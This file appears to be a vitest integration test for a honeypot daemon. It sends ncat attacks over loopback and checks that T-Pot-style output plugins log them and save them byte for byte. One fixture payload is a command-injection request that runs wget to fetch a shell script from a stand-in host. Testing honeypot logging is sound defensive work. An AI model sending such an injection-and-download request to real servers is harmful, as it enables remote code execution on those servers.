// Issue 6: the T-Pot outputs in a running daemon. log-json, log-attacker and
// save-file are copied into a plugins folder as an operator installs them,
// their files folders laid out as T-Pot's honeytrap container has them
// (log-json and log-attacker share <tmp>/honeytrap/log, save-file writes in
// <tmp>/honeytrap), and real ncat clients attack over IPv4 and IPv6
// loopback. Each attack must reach all three files, byte for byte what was
// sent, and the daemon must come up and run as it does without them.
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { cp, mkdir, readFile, readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { honeytrap, showAttack, type Attack } from '../lib/cli.js';
import { waitUntil } from '../lib/clients.js';
import { HoneytrapDaemon, REPO, cleanup, makeTempDir, testConfig } from '../lib/daemon.js';
import { freePort } from '../lib/ports.js';

const OUTPUTS = ['log-json', 'log-attacker', 'save-file'];

interface Record_ {
  plugin: string;
  status: string;
  findings: { type: string; value: string; meta?: Record<string, unknown> }[];
  error?: { code: string; message: string };
}

let tmp = '';
let logDir = '';
let saveDir = '';
let daemon: HoneytrapDaemon;
let port = 0;

const md5 = (b: Buffer): string => createHash('md5').update(b).digest('hex');
const sha512 = (b: Buffer): string => createHash('sha512').update(b).digest('hex');

/**
 * `ncat [-6] -p SRCPORT --send-only ADDRESS PORT` with `data` on its stdin: a
 * real client whose source port we choose, so its lines can be told apart.
 */
function ncat(address: string, data: Buffer, sourcePort: number): Promise<void> {
  return new Promise((resolve, reject) => {
    const args = [...(address.includes(':') ? ['-6'] : []), '-p', String(sourcePort)];
    const child = spawn('ncat', [...args, '--send-only', address, String(port)], {
      stdio: ['pipe', 'ignore', 'pipe'],
    });
    let stderr = '';
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('error', reject);
    child.on('exit', (code) =>
      code === 0
        ? resolve()
        : reject(new Error(`ncat ${args.join(' ')} exited ${code}: ${stderr}`)),
    );
    child.stdin.end(data);
  });
}

/** The attack the daemon stored for a client, once every output plugin's record is there. */
async function attackFrom(address: string, sourcePort: number): Promise<Attack> {
  const line = await daemon.waitForLog(
    (l) =>
      l.msg === 'attack' &&
      (l.remote === `${address}:${sourcePort}` || l.remote === `[${address}]:${sourcePort}`),
    15_000,
    `the attack from ${address} port ${sourcePort}`,
  );
  const id = String(line.attack);
  let last: Attack | undefined;
  await waitUntil(
    async () => {
      last = await showAttack(daemon.storeDir, id);
      return OUTPUTS.every((p) => p in last!.plugins);
    },
    15_000,
    `the output plugins' records on attack ${id} (last: ${JSON.stringify(last?.plugins)})`,
  );
  return last!;
}

async function lines(file: string): Promise<string[]> {
  const text = await readFile(file, 'utf8');
  expect(text.endsWith('\n')).toBe(true);
  return text.slice(0, -1).split('\n');
}

beforeAll(async () => {
  tmp = await makeTempDir('honeytrap-outputs-');
  const pluginsDir = join(tmp, 'plugins');
  logDir = join(tmp, 'honeytrap', 'log');
  saveDir = join(tmp, 'honeytrap');
  await mkdir(pluginsDir);
  // As an operator installs them: the folders, without their tests.
  for (const p of OUTPUTS)
    await cp(join(REPO, 'plugins', p), join(pluginsDir, p), {
      recursive: true,
      filter: (src) => !/[/\\](test|node_modules)$/.test(src),
    });
  port = await freePort();
  daemon = await HoneytrapDaemon.start((dir) => ({
    ...testConfig(dir, {
      ports: [{ port, template: '80_tcp' }],
      capture: { addresses: ['127.0.0.1', '::1'] },
    }),
    plugins: {
      dirs: [pluginsDir],
      files: { dirs: { 'log-json': logDir, 'log-attacker': logDir, 'save-file': saveDir } },
    },
  }));
  await waitUntil(
    async () => {
      const r = await honeytrap(['plugins', 'list', '--json', '--data-dir', daemon.storeDir]);
      const list = JSON.parse(r.stdout) as { name: string; state: string }[];
      return OUTPUTS.every((n) => list.some((p) => p.name === n && p.state === 'ready'));
    },
    20_000,
    'the three output plugins ready',
  );
}, 60_000);

afterAll(cleanup);

describe('log-json, log-attacker and save-file in a daemon', () => {
  const sent: { address: string; sourcePort: number; data: Buffer; attack?: Attack }[] = [
    {
      address: '127.0.0.1',
      sourcePort: 0,
      data: Buffer.from(
        'GET /shell?cd+/tmp;wget+http://192.0.2.9/x.sh HTTP/1.1\r\nHost: t\r\n\r\n',
      ),
    },
    {
      address: '::1',
      sourcePort: 0,
      data: Buffer.concat([
        Buffer.from('POST / HTTP/1.1\r\n\r\n'),
        Buffer.from([0, 1, 2, 0xff, 0x90]),
      ]),
    },
  ];

  test('the daemon starts as it does without them: ready on its port, no error logged', () => {
    const ready = daemon.logs.find((l) => l.msg.startsWith('honeytrap ready'));
    expect(ready?.msg).toBe(`honeytrap ready: trapping ${port}/tcp`);
    expect(daemon.errorLogs()).toEqual([]);
  });

  test('ncat attacks over IPv4 and IPv6 loopback are stored, each output plugin ok', async () => {
    for (const s of sent) {
      s.sourcePort = await freePort();
      await ncat(s.address, s.data, s.sourcePort);
      s.attack = await attackFrom(s.address, s.sourcePort);
      expect(Buffer.from(s.attack.received.data, 'base64')).toEqual(s.data);
      for (const p of OUTPUTS) {
        const r = s.attack.plugins[p] as Record_;
        expect([p, r.status, r.error]).toEqual([p, 'ok', undefined]);
      }
    }
  }, 60_000);

  test('attackers.json: one line per attack, the fields T-Pot reads', async () => {
    const got = (await lines(join(logDir, 'attackers.json'))).map(
      (l) => JSON.parse(l) as Record<string, unknown>,
    );
    expect(got).toHaveLength(sent.length);
    for (const s of sent) {
      const a = s.attack!;
      const rec = got.find(
        (r) => (r.attack_connection as { remote_port: number }).remote_port === s.sourcePort,
      );
      expect(rec).toBeDefined();
      expect(rec!['@timestamp']).toBe(`${a.startedAt.slice(0, 19)}Z`);
      expect(rec!.attack_connection).toEqual({
        protocol: 'tcp',
        remote_ip: s.address,
        remote_port: s.sourcePort,
        local_ip: s.address,
        local_port: port,
        payload: {
          md5_hash: md5(s.data),
          sha512_hash: sha512(s.data),
          length: s.data.length,
          data_hex: s.data.toString('hex'),
        },
      });
      expect(rec!.operation_mode).toBe(1);
      expect([rec!.download_count, rec!.download_tries, rec!.downloads]).toEqual([0, 0, {}]);
    }
  });

  test('attacker.log: honeytrap logAttacker lines, IPv6 in brackets', async () => {
    const got = await lines(join(logDir, 'attacker.log'));
    expect(got).toHaveLength(sent.length);
    for (const s of sent) {
      const a = s.attack!;
      const end = new Date(a.endedAt);
      const time = `${a.endedAt.slice(0, 10)} ${a.endedAt.slice(11, 19)}:${end.getUTCMilliseconds() * 1000}`;
      const ep = (addr: string, p: number) =>
        addr.includes(':') ? `[${addr}]:${p}` : `${addr}:${p}`;
      expect(got).toContain(
        `[${time} GMT] tcp ${ep(s.address, s.sourcePort)} -> ${ep(s.address, port)} ${md5(s.data)} ${sha512(s.data)} (${s.data.length} bytes)`,
      );
    }
  });

  test('save-file: each attack string in attacks/from_port_<port>-tcp_<id>_<date>, the bytes sent', async () => {
    const names = await readdir(join(saveDir, 'attacks'));
    expect(names.sort()).toEqual(
      sent
        .map((s) => `from_port_${port}-tcp_${s.attack!.id}_${s.attack!.startedAt.slice(0, 10)}`)
        .sort(),
    );
    for (const s of sent) {
      const name = `attacks/from_port_${port}-tcp_${s.attack!.id}_${s.attack!.startedAt.slice(0, 10)}`;
      expect(await readFile(join(saveDir, name))).toEqual(s.data);
      const r = s.attack!.plugins['save-file'] as Record_;
      expect(r.findings.map((f) => f.value)).toEqual([name]);
    }
  });
});
